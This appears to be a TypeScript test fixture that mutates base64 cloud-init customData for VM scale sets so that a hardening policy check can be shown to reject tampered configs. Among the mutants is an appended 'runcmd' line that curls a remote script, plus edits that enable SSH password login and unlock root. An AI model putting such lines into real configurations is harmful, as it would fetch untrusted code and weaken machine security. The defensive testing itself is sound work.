import { createHash } from 'node:crypto';
import { gzipSync } from 'node:zlib';
import { absent } from '../support/places';
import type { PolicyMutants } from '../support/policy-mutants';
import { change, other } from '../support/rows';
import { ofMachines, scaleSet } from '../support/scale-set';

const places = ofMachines('osProfile.customData');
const pack = (text: string) => Buffer.from(text).toString('base64');
const read = (before: unknown) => Buffer.from(String(before), 'base64').toString('utf8');

/** The document with lines changed, and a digest that fits them again. */
function stamped(before: unknown, change: (body: string) => string, schema = 'yosai-hardening/1'): string {
  const [start = '', , ...lines] = read(before).split('\n');
  const body = change(lines.join('\n'));
  const digest = createHash('sha256').update(body).digest('hex');
  return pack([start, `# ${schema} sha256:${digest}`, body].join('\n'));
}

const tampered = (before: unknown): readonly string[] => {
  const text = read(before);
  return [
    text.replace('ssh_pwauth: false', 'ssh_pwauth: true'),
    text.replace('disable_root: true', 'disable_root: false'),
    `${text}\nruncmd: [curl https://example.jp/a.sh]\n`,
    text.slice(0, -1),
    text.replace('#cloud-config', '#!/bin/sh'),
    text.replace(/sha256:[0-9a-f]/, 'sha256:x'),
    text.split('\n').toSpliced(1, 1).join('\n'),
    `\n${text}`,
    '#cloud-config\n',
  ].map(pack);
};

export const mutants: PolicyMutants = {
  specimens: scaleSet,
  broken: [
    ...places.map((place) =>
      change({ ...place, to: (before) => ['', absent, null, 'not base64!', ...tampered(before)] }),
    ),
    ...places.map((place) =>
      change({
        ...place,
        to: (before) => [
          stamped(before, (body) => body, 'yosai-hardening/0'),
          stamped(before, (body) => body, 'other/1'),
          stamped(before, (body) => `${body}\n# ${'x'.repeat(70_000)}`),
        ],
      }),
    ),
    ...ofMachines('osProfile').map((place) => change({ ...place, to: [absent, {}] })),
  ],
  harmless: [
    ...places.map((place) =>
      other({
        ...place,
        to: (before) => [
          gzipSync(read(before)).toString('base64'),
          String(before).replace(/(.{76})/g, '$1\n'),
          stamped(before, (body) => `${body}# a comment\n`),
        ],
      }),
    ),
    ...ofMachines('osProfile.adminUsername').map((place) => other({ ...place, to: ['somebody'] })),
  ],
};
